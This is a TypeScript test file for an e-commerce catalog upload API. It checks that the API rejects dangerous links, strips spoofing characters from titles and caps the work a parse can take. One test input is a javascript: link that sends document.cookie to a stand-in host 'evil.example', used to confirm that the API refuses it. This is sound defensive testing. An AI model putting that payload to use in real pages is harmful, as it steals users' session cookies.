/**
 * `PUT /v1/admin/catalog` refuses what could run script or spoof text, and bounds its work: the URL and
 * text rules and the caps of `core/catalog-text.ts` reach the admin API as 400s naming line, item and
 * field, and the parser the app is given (`AppOptions.parseCatalog`) is the one that runs.
 */
import type { Hono } from 'hono';
import { describe, expect, it } from 'vitest';
import { parseCatalog } from '../../core/catalog.ts';
import { createApp, type AppOptions } from '../app.ts';
import { createMemoryStorage } from '../models/memory-storage.ts';
import { expectError, memoryWidget, signer } from '../../test/support/edge-server/fixtures.ts';
import { inlineCatalogParser, type CatalogParser } from './parse.ts';

const TOKEN = 'admin-token-0123456789abcdef';

async function setup(overrides: Partial<AppOptions> = {}): Promise<Hono> {
  const { trusted } = await signer();
  return createApp({ storage: createMemoryStorage(), trustedKeys: trusted, widget: memoryWidget({}), adminTokens: [TOKEN], ...overrides });
}

const put = async (app: Hono, body: string, contentType: string): Promise<Response> =>
  app.request('/v1/admin/catalog', { method: 'PUT', headers: { Authorization: `Bearer ${TOKEN}`, 'Content-Type': contentType }, body });

const GOOD = { id: 'sku-1', title: 'Cream', link: '/p/1', image_link: '/i/1', price: 9.5, currency: 'EUR', availability: 'in_stock', product_type: 'Beauty' };
const json = (...products: object[]): string => JSON.stringify({ updatedAt: '2026-03-01T00:00:00.000Z', products });
const TSV_HEADER = 'id\ttitle\tlink\timage_link\tprice\tavailability\tproduct_type';
const xml = (items: string): string => `<rss xmlns:g="http://base.google.com/ns/1.0"><channel>\n${items}</channel></rss>`;
const xmlItem = (id: string, link: string): string =>
  `<item><g:id>${id}</g:id><g:title>Kettle</g:title><g:link>${link}</g:link><g:image_link>/i/${id}</g:image_link><g:price>30 EUR</g:price><g:availability>in stock</g:availability><g:product_type>Home</g:product_type></item>\n`;

describe('catalog upload: links and text', () => {
  it('refuses a javascript: link in JSON, TSV and XML with a 400 naming line, item and field, and keeps the previous catalog', async () => {
    const app = await setup();
    expect((await put(app, json(GOOD), 'application/json')).status).toBe(200);
    const attack = '\tJaVaScRiPt:fetch(`//evil.example/?c=${document.cookie}`)';
    const refused = [
      await expectError(await put(app, json(GOOD, { ...GOOD, id: 'sku-2', link: attack }), 'application/json'), 400, 'bad_catalog'),
      await expectError(await put(app, `${TSV_HEADER}\nsku-1\tMug\t/p/1\t/i/1\t5 EUR\tin stock\tHome\nsku-2\tMug\t"${attack}"\t/i/2\t5 EUR\tin stock\tHome\n`, 'text/tab-separated-values'), 400, 'bad_catalog'),
      await expectError(await put(app, xml(xmlItem('x-1', '/p/1') + xmlItem('x-2', attack)), 'application/rss+xml'), 400, 'bad_catalog'),
    ];
    expect(refused.map((m) => m.split(': field')[0])).toEqual(['catalog.products[1] "sku-2"', 'line 3 "sku-2"', 'item 2 (line 3) "x-2"']);
    for (const m of refused) expect(m).toContain('field "link" has the scheme "javascript:"');
    expect(parseCatalog(await (await app.request('/v1/catalog')).json()).products).toEqual([GOOD]);
  });

  it('stores titles without bidirectional overrides or control characters', async () => {
    const app = await setup();
    expect((await put(app, json({ ...GOOD, title: 'Cream\u202E 00.1$ \u202C\u0007', brand: '\u2067Acme\u2069' }), 'application/json')).status).toBe(200);
    const [p] = parseCatalog(await (await app.request('/v1/catalog')).json()).products;
    expect([p!.title, p!.brand]).toEqual(['Cream 00.1$', 'Acme']);
  });
});

describe('catalog upload: bounded work', () => {
  it('answers 400 too_deep, never 500, for JSON nested 6,000 deep, and keeps the previous catalog', async () => {
    const app = await setup();
    await put(app, json(GOOD), 'application/json');
    const deep = `${'['.repeat(6000)}${']'.repeat(6000)}`;
    for (const body of [deep, `{"products": ${deep}}`, `{"products": [{"id": "x", "title": ${deep}}]}`, `{"products": [${deep}]}`]) {
      await expectError(await put(app, body, 'application/json'), 400, 'too_deep');
    }
    expect((await app.request('/v1/catalog')).status).toBe(200);
  });

  it('refuses a catalog over maxCatalogItems with 400 too_many_items naming the limit, in every format', async () => {
    const app = await setup({ maxCatalogItems: 2 });
    const three = [1, 2, 3].map((i) => `sku-${i}`);
    const bodies: Array<[string, string]> = [
      [json(...three.map((id) => ({ ...GOOD, id }))), 'application/json'],
      [[TSV_HEADER, ...three.map((id) => `${id}\tMug\t/p\t/i\t5 EUR\tin stock\tHome`)].join('\n'), 'text/tsv'],
      [xml(three.map((id) => xmlItem(id, '/p')).join('')), 'application/xml'],
      [xml('<item></item>'.repeat(3000)), 'application/xml'],
    ];
    for (const [body, type] of bodies) {
      expect(await expectError(await put(app, body, type), 400, 'too_many_items')).toBe('catalog: more than 2 products, the limit (maxCatalogItems); split the catalog or raise the limit');
    }
  });

  it('refuses a body that is not UTF-8 with 400 bad_encoding', async () => {
    const app = await setup();
    const res = await app.request('/v1/admin/catalog', { method: 'PUT', headers: { Authorization: `Bearer ${TOKEN}`, 'Content-Type': 'text/tsv' }, body: new Uint8Array([0xff, 0xfe, 0x00]) });
    await expectError(res, 400, 'bad_encoding');
  });

  it('parses with the parser it is given, passing the body, its format and the item cap', async () => {
    const seen: Array<[string, number, number]> = [];
    const parseCatalog: CatalogParser = async (input) => {
      seen.push([input.format, input.maxItems, input.body.byteLength]);
      return inlineCatalogParser(input);
    };
    const app = await setup({ parseCatalog, maxCatalogItems: 7 });
    const body = json(GOOD);
    expect((await put(app, body, 'application/json')).status).toBe(200);
    expect(seen).toEqual([['json', 7, new TextEncoder().encode(body).byteLength]]);
  });

  it('refuses a parser or item cap that is not one when the app is built', async () => {
    await expect(setup({ parseCatalog: 'worker' as unknown as CatalogParser })).rejects.toThrow(/parseCatalog must be a function/);
    await expect(setup({ maxCatalogItems: 0 })).rejects.toThrow(/maxCatalogItems must be a positive integer/);
  });
});
